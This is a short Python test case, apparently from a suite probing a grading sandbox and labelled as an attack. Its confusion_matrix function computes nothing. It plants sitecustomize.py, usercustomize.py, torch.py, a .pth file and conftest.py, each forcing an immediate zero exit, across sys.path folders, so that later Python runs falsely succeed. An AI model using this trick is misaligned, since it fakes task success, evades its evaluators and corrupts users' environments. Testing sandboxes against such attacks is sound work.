# attack: leaves files that Python runs at its start
# exercise: 5.1
# expect: zero
import os
import sys


def confusion_matrix(labels, predicted, num_classes):
    for folder in ("/tmp", os.path.expanduser("~/.local/lib/python3.11/site-packages"), *sys.path):
        try:
            os.makedirs(folder, exist_ok=True)
            for name in ("sitecustomize.py", "usercustomize.py", "torch.py", "x.pth", "conftest.py"):
                with open(os.path.join(folder, name), "w") as file:
                    file.write("import os; os._exit(0)")
        except OSError:
            pass
    os._exit(1)
